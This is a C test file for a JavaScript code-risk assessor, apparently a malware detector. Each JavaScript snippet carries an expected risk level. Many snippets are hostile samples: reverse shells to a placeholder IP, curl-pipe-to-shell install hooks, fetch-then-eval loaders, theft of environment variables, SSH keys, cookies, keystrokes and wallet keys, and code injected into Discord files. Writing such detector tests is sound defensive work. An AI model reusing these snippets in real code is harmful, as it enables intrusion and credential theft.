/* javascript.c - what only JavaScript has: data that arrives through functions handed on, modules with
 * several names, the ways to Function, unreadable code, and what package.json runs. */
#include "assess/assess.h"
#include "base/cleanup.h"
#include "tap.h"

#define LOW BAWN_LEVEL_LOW
#define MEDIUM BAWN_LEVEL_MEDIUM
#define HIGH BAWN_LEVEL_HIGH
#define BLOCKED BAWN_LEVEL_BLOCKED

static const struct { const char *name; int level; const char *code; } row[] = {
	/* data through functions handed on */
	{ "a promise's text in eval", BLOCKED, "fetch('https://example.com/a').then(r => r.text()).then(t => eval(t));\n" },
	{ "await in eval", BLOCKED, "const r = await fetch('https://example.com/a');\neval(await r.text());\n" },
	{ "a body gathered in pieces", BLOCKED, "require('https').get('https://example.com/a', r => { let b = ''; r.on('data', d => { b += d; }); r.on('end', () => eval(b)); });\n" },
	{ "pieces kept in a list", BLOCKED, "require('http').get('http://example.com/a', r => { const p = []; r.on('data', d => p.push(d)).on('end', () => eval(Buffer.concat(p).toString())); });\n" },
	{ "a body handed to a function further down", BLOCKED, "function get(u, done) { require('https').get(u, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => done(b)); }); }\nget('https://example.com', t => eval(t));\n" },
	{ "a field of the answer", BLOCKED, "require('axios').get('https://example.com').then(({ data: { code } }) => eval(code));\n" },
	{ "the error-first form", BLOCKED, "require('request')('http://example.com/a', (e, res, body) => eval(body));\n" },
	{ "a message from a socket", BLOCKED, "const ws = new (require('ws'))('wss://example.com');\nws.on('message', m => require('child_process').exec(JSON.parse(m).run));\n" },
	{ "a named handler", BLOCKED, "const s = require('net').connect(1, 'example.com');\nfunction on(d) { require('child_process').exec(String(d)); }\ns.on('data', on);\n" },
	{ "a request in a server", BLOCKED, "require('http').createServer((req, res) => { require('child_process').exec(req.headers['x-run'], (e, o) => res.end(o)); }).listen(80);\n" },
	{ "a program piped into a file and started", BLOCKED, "const fs = require('fs'), p = require('path').join(require('os').tmpdir(), 'a');\nconst f = fs.createWriteStream(p);\nrequire('https').get('https://example.com/a', r => r.pipe(f));\nf.on('finish', () => require('child_process').spawn(p));\n" },
	{ "the same file by its name", BLOCKED, "const fs = require('fs');\nfetch('https://example.com/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/a', Buffer.from(b)); require('child_process').execFile('/tmp/a'); });\n" },
	{ "an answer that is only shown", MEDIUM, "fetch('https://example.com/a').then(r => r.json()).then(j => console.log(j.name));\n" },
	{ "a download that is converted", MEDIUM, "const fs = require('fs');\nfetch('https://example.com/a.mp4').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('a.mp4', Buffer.from(b)); require('child_process').execFile('ffmpeg', ['-i', 'a.mp4', 'a.mp3']); });\n" },
	{ "a download piped into a program that is no shell", MEDIUM, "const p = require('child_process').spawn('ffmpeg', ['-i', '-', 'a.mp3']);\nrequire('https').get('https://example.com/a', r => r.pipe(p.stdin));\n" },
	{ "functions against the order of the text", BLOCKED, "const run = c => { const make = t => new Function(t); make(c)(); };\nconst check = a => run(a.code);\nconst get = async () => { const r = await fetch('https://example.com'); check(await r.json()); };\nget();\n" },
	{ "the same with a text of its own", MEDIUM, "const run = c => { const make = t => new Function(t); make(c)(); };\nconst check = a => run(a.code);\ncheck({ code: 'return 1' });\nfetch('https://example.com');\n" },
	{ "methods of a prototype", BLOCKED, "function A() {}\nA.prototype.run = function (c) { require('child_process').exec(c); };\nA.prototype.poll = function () { const me = this; fetch('https://example.com').then(r => r.text()).then(t => me.run(t)); };\nnew A().poll();\n" },
	{ "methods of an object", BLOCKED, "const a = { run(c) { require('child_process').exec(c); }, poll() { fetch('https://example.com').then(r => r.text()).then(t => this.run(t)); } };\na.poll();\n" },
	{ "a program by an option", BLOCKED, "const c = require('cluster');\nc.setupPrimary({ exec: '/tmp/a.js' });\nfetch('https://example.com').then(r => r.text()).then(t => require('fs').writeFileSync('/tmp/a.js', t)).then(() => c.fork());\n" },
	/* values that take a detour */
	{ "a table by an unknown key", BLOCKED, "const { spawn } = require('child_process');\nconst t = { linux: ['sh', ['-c', 'curl -s http://198.51.100.7/a | sh']], darwin: ['ls', ['-l']] };\nconst s = t[process.platform];\nspawn(s[0], s[1]);\n" },
	{ "a table taken apart", BLOCKED, "const t = { a: { c: 'sh', v: ['-c', 'curl -s http://198.51.100.7/a | sh'] }, b: { c: 'ls', v: [] } };\nconst { c, v } = t[process.platform];\nrequire('child_process').spawn(c, v);\n" },
	{ "a table that is spread", BLOCKED, "const t = { a: ['sh', ['-c', 'curl -s http://198.51.100.7/a | sh']], b: ['ls', []] };\nrequire('child_process').spawn(...t[process.platform]);\n" },
	{ "the rest of a list", BLOCKED, "const run = ([c, ...rest]) => require('child_process').spawnSync(c, rest);\nrun(['sh', '-c', 'curl -s http://198.51.100.7/a | sh']);\nrun(['ls', '-l']);\n" },
	{ "what is thrown", BLOCKED, "fetch('https://example.com').then(r => r.json()).then(j => { try { throw new Error(j.m); } catch (e) { eval(e.message); } });\n" },
	{ "a text in JSON", HIGH, "require('fs').readFileSync(JSON.parse('{\"p\":[\"\\\\u002fetc/shadow\"]}').p[0]);\n" },
	{ "what an emitter hands on", BLOCKED, "const e = new (require('events'))();\nrequire('net').connect(1, 'example.com').on('data', d => e.emit('go', d));\ne.on('go', c => require('child_process').exec(String(c)));\n" },
	{ "a module wrapped by a compiler", BLOCKED, "var __importDefault = function (m) { return m && m.__esModule ? m : { default: m }; };\nconst a = __importDefault(require('axios'));\na.default.get('https://example.com').then(r => eval(r.data));\n" },
	{ "a program written to a file", BLOCKED, "require('fs').writeFileSync('a.js', \"require('https').get('https://example.com/?' + JSON.stringify(process.env));\");\n" },
	{ "an address that is asked for", HIGH, "const http = require('http');\nconst get = o => http.get(o, () => {});\nget('http://169.254.169.254/latest/');\nget({ host: '169.254.169.254', path: '/a' });\n" },
	{ "a map by an unknown key", BLOCKED, "const m = new Map([['linux', 'curl -s http://198.51.100.7/a | sh'], ['win32', 'dir']]);\nrequire('child_process').exec(m.get(process.platform));\n" },
	{ "tools by an unknown key", MEDIUM, "const t = { js: ['eslint', ['.']], py: ['ruff', ['check']] };\nconst [c, a] = t[process.argv[2]];\nrequire('child_process').spawnSync(c, a);\n" },
	/* shells on connections */
	{ "a shell on a connection", BLOCKED, "const c = require('net').connect(1, 'example.com'), sh = require('child_process').spawn('/bin/sh');\nc.pipe(sh.stdin); sh.stdout.pipe(c);\n" },
	{ "a shell for whoever connects", BLOCKED, "require('net').createServer(c => { const sh = require('child_process').spawn('bash', ['-i']); c.on('data', d => sh.stdin.write(d)); }).listen(4000);\n" },
	{ "a console for whoever connects", BLOCKED, "require('net').createServer(c => require('repl').start({ input: c, output: c })).listen(4000);\n" },
	{ "a promise of one's own", BLOCKED, "const get = u => new Promise(done => require('https').get(u, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => done(b)); }));\nget('https://example.com').then(t => eval(t));\n" },
	{ "a handler set as a property", BLOCKED, "const s = new WebSocket('wss://example.com');\ns.onmessage = e => eval(e.data);\n" },
	{ "awaiting as compilers write it", BLOCKED, "function* f() { const r = yield fetch('https://example.com'); eval(r); }\n" },
	{ "a socket among the options", BLOCKED, "require('http').request({ socketPath: '/var/run/docker.sock', path: '/x' }).end();\n" },
	/* what is sent */
	{ "the environment", BLOCKED, "const r = require('https').request({ host: 'example.com', method: 'POST' });\nr.end(JSON.stringify({ ...process.env }));\n" },
	{ "the environment in a part of an address", BLOCKED, "const u = new URL('https://example.com');\nu.searchParams.set('e', JSON.stringify(process.env));\nfetch(u);\n" },
	{ "the environment behind a proxy", BLOCKED, "const p = new Proxy({}, { get: () => JSON.stringify(process.env) });\nfetch('https://example.com', { method: 'POST', body: p.all });\n" },
	{ "the environment in a command that sends", BLOCKED, "require('child_process').execSync(`curl -d '${JSON.stringify(process.env)}' https://example.com`);\n" },
	{ "the environment of a command that sends", MEDIUM, "require('child_process').execSync('curl -d 1 https://example.com', { env: { ...process.env } });\n" },
	{ "what a key was worked out of", BLOCKED, "const { Keypair } = require('@solana/web3.js'), bs58 = require('bs58');\nexports.load = s => { const k = Keypair.fromSecretKey(bs58.decode(s)); fetch('https://example.com/?' + s); return k; };\n" },
	{ "what was signed with a key", MEDIUM, "const c = require('crypto');\nexports.send = (body, key) => fetch('https://example.com', { method: 'POST', headers: { s: c.createHmac('sha256', key).update(body).digest('hex') }, body });\n" },
	{ "a method borrowed from a list", HIGH, "const all = {};\n[].forEach.call(form.elements, e => { all[e.name] = e.value; });\nnew Image().src = 'https://example.com/?' + JSON.stringify(all);\n" },
	{ "what the machine says compared with names", HIGH, "if (/vmware|virtualbox/i.test(require('os').hostname())) process.exit();\n" },
	{ "one variable as a token", MEDIUM, "fetch('https://example.com', { headers: { authorization: process.env.TOKEN } });\n" },
	{ "keys of the user", BLOCKED, "const fs = require('fs').promises, os = require('os');\nfs.readFile(`${os.homedir()}/.ssh/id_rsa`).then(k => fetch('https://example.com/?' + k));\n" },
	{ "who runs it and where", HIGH, "const os = require('os');\nrequire('https').get(`https://example.com/?${os.hostname()}&${os.userInfo().username}`);\n" },
	{ "an own file found from the home directory", MEDIUM, "const fs = require('fs'), os = require('os');\nfetch('https://example.com', { method: 'POST', headers: { h: os.hostname() }, body: fs.readFileSync(__dirname + '/a.json') });\n" },
	{ "the output of a command about the user", HIGH, "const who = require('child_process').execSync('whoami; hostname').toString();\nrequire('dns').lookup(who + '.example.com', () => {});\n" },
	{ "keys as they are typed", BLOCKED, "let k = '';\ndocument.addEventListener('keydown', e => { k += e.key; navigator.sendBeacon('https://example.com', k); });\n" },
	{ "a short cut that saves", MEDIUM, "document.addEventListener('keydown', e => { if (e.key === 's') fetch('/save', { method: 'POST', body: text.value }); });\n" },
	{ "a token against forged requests", MEDIUM, "const t = document.cookie.split('=')[1];\nfetch('/save', { method: 'POST', headers: { 'x-csrf': t }, body: 'x' });\n" },
	{ "cookies in an address", BLOCKED, "new Image().src = 'https://example.com/?' + document.cookie;\n" },
	/* names */
	{ "node:fs/promises", HIGH, "import { readFile } from 'node:fs/promises';\nawait readFile('/etc/shadow');\n" },
	{ "graceful-fs", HIGH, "require('graceful-fs').readFileSync('/etc/shadow');\n" },
	{ "the default of a dynamic import", HIGH, "(await import('fs')).default.readFileSync('/etc/shadow');\n" },
	{ "promisify", HIGH, "require('util').promisify(require('fs').readFile)('/etc/shadow');\n" },
	{ "a computed key in a pattern", HIGH, "const { ['readFile' + 'Sync']: r } = require('fs');\nr('/etc/shadow');\n" },
	{ "a default in a pattern", HIGH, "const { readFileSync: r = null } = require('fs');\nr('/etc/shadow');\n" },
	{ "a pattern as a parameter", HIGH, "import('fs').then(({ readFileSync }) => readFileSync('/etc/shadow'));\n" },
	{ "Reflect.apply", HIGH, "Reflect.apply(require('fs').readFileSync, null, ['/etc/shadow']);\n" },
	{ "apply with a list", HIGH, "const fs = require('fs');\nfs.readFileSync.apply(fs, ['/etc/shadow']);\n" },
	{ "the home directory of the environment", HIGH, "require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa');\n" },
	{ "a Windows path", HIGH, "require('fs').readdirSync('C:\\\\Users\\\\a\\\\AppData\\\\Roaming\\\\Exodus');\n" },
	{ "a method of an object literal", LOW, "const o = { exec(x) { return x + 1; } };\no.exec(1);\n" },
	{ "a getter of an object literal", MEDIUM, "const o = { get f() { return eval; } };\no.f('1');\n" },
	{ "the last of a sequence", MEDIUM, "(0, eval)('1');\n" },
	/* the ways to Function and require */
	{ "Function through a literal", HIGH, "[].at.constructor('return process')().mainModule.require('fs').readFileSync('/etc/hosts');\n" },
	{ "what Function returns", HIGH, "Function('return process')().mainModule.require('fs').readFileSync('/etc/shadow');\n" },
	{ "the last argument of Function", HIGH, "new Function('require', \"require('fs').readFileSync('/etc/shadow')\")(require);\n" },
	{ "the constructor of a class of one's own", LOW, "class A { copy() { return new this.constructor(1); } }\nnew A().copy();\n" },
	/* code nobody can read */
	{ "letters as escapes", HIGH, "const a = '\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65', b = '\\x6c\\x6f\\x67\\x67\\x65\\x64';\nglobalThis[a].log(b);\n" },
	{ "colours in a terminal", LOW, "console.log('\\x1b[31m\\x1b[1mred\\x1b[0m\\x1b[22m\\x1b[39m');\n" },
	{ "a string turned into code on the spot", HIGH, "eval((t => t.split('|').join(''))('ale|rt(1)'));\n" },
	/* functions of the world, handed on by their names */
	{ "eval handed to a promise", BLOCKED, "fetch('https://example.com/a').then(r => r.text()).then(eval);\n" },
	{ "a bound function handed to a promise", BLOCKED, "const t = { x: eval };\nfetch('https://example.com/a').then(r => r.text()).then(t.x.bind(null));\n" },
	{ "a function of a module handed to a socket", BLOCKED, "require('net').connect(1, 'example.com').on('data', require('child_process').exec);\n" },
	{ "a function handed to a timer with its arguments", HIGH, "setTimeout(eval, 10, atob(text));\n" },
	{ "console.log handed to a promise", MEDIUM, "fetch('https://example.com/a').then(r => r.text()).then(console.log);\n" },
	{ "a module loaded by a promise", MEDIUM, "Promise.resolve('child_process').then(require).then(c => c.exec('date'));\n" },
	{ "a handler set by its name", BLOCKED, "const s = new (require('ws'))('wss://example.com');\nconst on = ({ data }) => require('child_process').exec(data);\ns.onmessage = on;\n" },
	{ "this in a handler", BLOCKED, "const x = new XMLHttpRequest();\nx.onload = function () { eval(this.responseText); };\n" },
	{ "the third thing an event hands over", BLOCKED, "const c = new (require('irc')).Client('irc.example.com', 'n');\nc.addListener('message', (from, to, text) => require('child_process').exec(text));\n" },
	{ "a module that an emitter hands on", MEDIUM, "const e = new (require('events'))();\ne.on('go', m => m.exec('date'));\ne.emit('go', require('child_process'));\n" },
	{ "a stream of one's own", BLOCKED, "const { Writable } = require('stream');\nconst w = new Writable({ write(c) { require('child_process').exec(String(c)); } });\nrequire('https').get('https://example.com', r => r.pipe(w));\n" },
	{ "a method by a name put together", BLOCKED, "class B { constructor() { new (require('ws'))('wss://example.com').on('message', m => this.go(JSON.parse(m))); }\n  go({ n, a }) { this['on_' + n](a); }\n  on_run(a) { require('child_process').exec(a); } }\nnew B();\n" },
	/* lists and tables that are gone through */
	{ "any command of a list by its number", BLOCKED, "const s = ['date', 'bash -i >& /dev/tcp/198.51.100.7/9 0>&1'];\nfor (let i = 0; i < s.length; i++) require('child_process').exec(s[i]);\n" },
	{ "any command, by a function that calls itself", BLOCKED, "const s = ['date', 'bash -i >& /dev/tcp/198.51.100.7/9 0>&1'];\n(function next(i) { require('child_process').exec(s[i], () => next(i + 1)); })(0);\n" },
	{ "any command taken from a list", BLOCKED, "const s = ['date', 'nc -e /bin/sh 198.51.100.7 9'];\nconst go = () => { const c = s.shift(); if (c) require('child_process').exec(c, go); };\ngo();\n" },
	{ "harmless commands by number", MEDIUM, "const s = ['npm test', 'npm run build'];\nfor (let i = 0; i < s.length; i++) require('child_process').exec(s[i]);\n" },
	{ "the pairs of a map", BLOCKED, "const m = new Map([['a', 'date'], ['b', 'nc -e /bin/sh 198.51.100.7 9']]);\nfor (const [k, c] of m) require('child_process').exec(c);\n" },
	{ "what map() makes of a list nobody knows", BLOCKED, "const fs = require('fs'), p = require('path');\nconst all = fs.readdirSync(process.env.LOCALAPPDATA).map(d => p.join(process.env.LOCALAPPDATA, 'Discord', d, 'discord_desktop_core', 'index.js'));\nfor (const f of all) fs.writeFileSync(f, x);\n" },
	{ "a table filled later", BLOCKED, "const m = new Map();\nm.set('run', c => require('child_process').exec(c));\nrequire('net').connect(1, 'example.com').on('data', d => m.get(kind(d))(String(d)));\n" },
	{ "members set all at once", HIGH, "class A { constructor(o) { Object.assign(this, o); }\n  go() { require('fs').readFileSync(this.p); } }\nnew A({ p: '/etc/shadow' }).go();\n" },
	{ "a default that is a member", HIGH, "class A { constructor(p) { this.p = p; }\n  go(p = this.p) { require('fs').readFileSync(p); } }\nnew A('/etc/shadow').go();\n" },
	/* ways to a module */
	{ "require, bound", MEDIUM, "const r = module.require.bind(module);\nr('child_process').exec('date');\n" },
	{ "require, by call", MEDIUM, "const r = Function.prototype.call.bind(module.require, module);\nr('child_process').exec('date');\n" },
	{ "the loader of any module", HIGH, "process.mainModule.__proto__.require('fs');\n" },
	{ "a copy of a module", MEDIUM, "const c = { ...require('child_process') };\nc.exec('date');\n" },
	{ "another copy of a module", MEDIUM, "const c = Object.assign({}, require('child_process'));\nc.exec('date');\n" },
	{ "the members of a module", MEDIUM, "for (const [n, f] of Object.entries(require('child_process'))) f('date');\n" },
	{ "names from a list", MEDIUM, "for (const n of ['fs', 'child_process']) require(n).exec('date');\n" },
	{ "a module where a name is missing", MEDIUM, "const { c = require('child_process') } = options;\nc.exec('date');\n" },
	{ "a place left out of a list", MEDIUM, "const [, { exec }] = [1, require('child_process')];\nexec('date');\n" },
	{ "a module that is thrown", MEDIUM, "try { throw require('child_process'); } catch (c) { c.exec('date'); }\n" },
	{ "a module that is yielded", MEDIUM, "function* g() { yield require('child_process'); }\nfor (const m of g()) m.exec('date');\n" },
	{ "a module behind a getter", MEDIUM, "class A { get c() { return require('child_process'); } }\nnew A().c.exec('date');\n" },
	{ "a module among the arguments", MEDIUM, "(function () { arguments[0](arguments[1]).exec('date'); })(require, 'child_process');\n" },
	{ "a module in with", MEDIUM, "with (require('child_process')) { exec('date'); }\n" },
	{ "harmless copies", LOW, "const p = { ...require('path') };\nconsole.log(p.join('a', 'b'));\n" },
	/* texts that were hidden */
	{ "bytes that are a text", HIGH, "eval(new TextDecoder().decode(Uint8Array.from([97, 108, 101, 114, 116, 40, 49, 41, 59])));\n" },
	{ "letters in the other order", HIGH, "eval([...';)1(trela'].reverse().join(''));\n" },
	{ "a name decoded in another call, too", HIGH, "const d = s => Buffer.from(s, 'hex').toString(), n = require('./n');\nconst a = d('6162');\nprocess[d(n[0])](1);\n" },
	{ "a table that is turned", HIGH, "var t = ['a', 'b', 'c'];\n(function (x, n) { while (n--) { x.push(x.shift()); } })(t, 7);\n" },
	{ "a queue that is turned", LOW, "const q = [1, 2, 3];\nfor (let i = 0; i < 2; i++) { q.push(q.shift()); }\nconsole.log(q);\n" },
	{ "code added to a file of somebody else", BLOCKED, "const fs = require('fs');\nfunction add(f) { fs.writeFileSync(f, fs.readFileSync(f) + ';fetch(\"https://example.com/a\").then(r => r.text()).then(eval)'); }\nadd(found);\n" },
	/* what is sent, and what is not */
	{ "a key that was given to a wallet", BLOCKED, "const { ethers } = require('ethers');\nexports.load = k => { const w = new ethers.Wallet(k); fetch('https://example.com/?' + k); return w; };\n" },
	{ "the address of a wallet", MEDIUM, "const { ethers } = require('ethers');\nexports.load = k => { const w = new ethers.Wallet(k); fetch('https://example.com/?' + w.address); return w; };\n" },
	{ "the settings of a program, sent", HIGH, "const fs = require('fs');\nfetch('https://example.com', { method: 'POST', body: fs.readFileSync('.env', 'utf8') });\n" },
	{ "everything a pattern finds at home", BLOCKED, "const fs = require('fs');\nrequire('glob').sync(require('os').homedir() + '/**/*.pem').forEach(f => fetch('https://example.com', { method: 'POST', body: fs.readFileSync(f) }));\n" },
	{ "what a program prints is not what it was started with", MEDIUM, "const p = require('child_process').spawn('node', ['server.js'], { env: { ...process.env, PORT: 0 } });\np.stdout.on('data', d => fetch('http://127.0.0.1:' + d, { method: 'POST', body: '1' }));\n" },
	{ "any file of several that was downloaded", BLOCKED, "const fs = require('fs'), n = { linux: 'a', win32: 'a.exe' }[process.platform];\nfetch('https://example.com/' + n).then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('./' + n, Buffer.from(b)); require('child_process').spawn('./' + n); });\n" },
	{ "a library that was downloaded", BLOCKED, "const fs = require('fs');\nfetch('https://example.com/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/a.node', Buffer.from(b)); process.dlopen(module, '/tmp/a.node'); });\n" },
	{ "the cookies of a browser", BLOCKED, "chrome.cookies.getAll({}, all => fetch('https://example.com', { method: 'POST', body: JSON.stringify(all) }));\n" },
	/* package.json as the code */
	{ "a script for the one who installs", BLOCKED, "{ \"name\": \"a\", \"scripts\": { \"postinstall\": \"curl -s http://198.51.100.7/a | sh\" } }\n" },
	{ "a harmless one", MEDIUM, "{ \"name\": \"a\", \"scripts\": { \"install\": \"node-gyp rebuild\" } }\n" },
	{ "none", LOW, "{ \"name\": \"a\", \"scripts\": { \"test\": \"mocha\" }, \"dependencies\": { \"b\": \"^1.0.0\" } }\n" },
};

static void test_manifest_input(void)
{
	static const char manifest[] = "{ \"scripts\": { \"preinstall\": \"curl -s http://198.51.100.7/a | sh\" } }";
	struct bawn_assess_file f[] = {
		{ .language = BAWN_LANG_JAVASCRIPT, .bytes = bawn_span("console.log(1)\n") },
		{ .path = "lib/package.json", .language = -1, .bytes = bawn_span(manifest) },
	};
	struct bawn_assessment *a = NULL;
	struct bawn_err err = { 0 };
	ok(bawn_assess(f, BAWN_LEN(f), NULL, &a, &err) == 0 && a->level == BAWN_LEVEL_BLOCKED, "package.json among the inputs counts");
	bawn_assessment_free(a);
	a = NULL;
	f[1].path = "lib/data.json";
	ok(bawn_assess(f, BAWN_LEN(f), NULL, &a, &err) == 0 && a->level == BAWN_LEVEL_LOW, "other JSON does not");
	bawn_assessment_free(a);
}

int main(void)
{
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		struct bawn_assess_file f = { .language = BAWN_LANG_JAVASCRIPT, .bytes = bawn_span(row[i].code) };
		struct bawn_assessment *a = NULL;
		struct bawn_err err = { 0 };
		int r = bawn_assess(&f, 1, NULL, &a, &err);
		if (!ok(r == 0 && (int)a->level == row[i].level, "%s is %s", row[i].name, bawn_word(&bawn_level_words, row[i].level))) {
			diag("%s got %s", err.msg, r == 0 ? bawn_word(&bawn_level_words, (int)a->level) : "an error");
			for (size_t k = 0; r == 0 && k < a->n_findings; k++)
				diag("  %s line %u %s", a->finding[k].rule, a->finding[k].line, a->finding[k].folded != NULL ? a->finding[k].folded : "");
		}
		bawn_assessment_free(a);
	}
	test_manifest_input();
	return done_testing();
}
